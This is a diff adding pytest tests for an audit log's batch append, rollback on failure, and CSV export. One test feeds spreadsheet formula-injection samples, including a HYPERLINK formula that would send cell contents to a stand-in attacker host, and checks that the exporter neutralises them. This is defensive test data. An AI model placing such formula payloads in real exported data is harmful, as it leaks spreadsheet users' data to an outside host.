@@ -535,3 +535,45 @@ def test_parse_since_rejects_anything_else_with_a_readable_message() -> None:
 
 def test_canonical_json_sorts_keys_and_keeps_non_ascii() -> None:
     assert canonical_json({"b": 1, "a": ["é", None]}) == '{"a":["é",null],"b":1}'.encode()
+
+
+def test_append_commits_several_rows_in_one_chain_and_without_sync_they_are_still_readable(
+    log: AuditLog, db_path: Path
+) -> None:
+    ids = log.append([decision("a"), outcome("a"), decision("b")], sync=False)
+
+    with raw(db_path) as conn:
+        kinds = [tuple(row) for row in conn.execute("SELECT id, call_id, kind FROM events ORDER BY id")]
+    assert kinds == [(ids[0], "a", "decision"), (ids[1], "a", "outcome"), (ids[2], "b", "decision")]
+    assert log.sync() is True
+    assert log.verify().ok
+
+
+def test_append_is_all_or_nothing(log: AuditLog, db_path: Path) -> None:
+    log.record_decision(decision("taken"))
+    before = (log.last_id, log.last_hash)
+
+    with pytest.raises(AuditWriteError):
+        log.append([decision("new"), decision("taken")])
+
+    assert (log.last_id, log.last_hash) == before
+    with raw(db_path) as conn:
+        assert conn.execute("SELECT count(*) FROM events").fetchone()[0] == 1
+
+
+def test_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(log: AuditLog) -> None:
+    log.record_decision(decision(reason='=HYPERLINK("http://evil.example/?"&A1,"click")'))
+    log.record_decision(decision(call_id="c2", reason="@SUM(1+1)"))
+    log.record_decision(decision(call_id="c3", reason="-2+3"))
+    log.record_decision(decision(call_id="c4", reason="plain reason"))
+    out = io.StringIO(newline="")
+
+    log.export(out, "csv")
+
+    reasons = [record["reason"] for record in csv.DictReader(io.StringIO(out.getvalue(), newline=""))]
+    assert reasons == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'@SUM(1+1)",
+        "'-2+3",
+        "plain reason",
+    ]
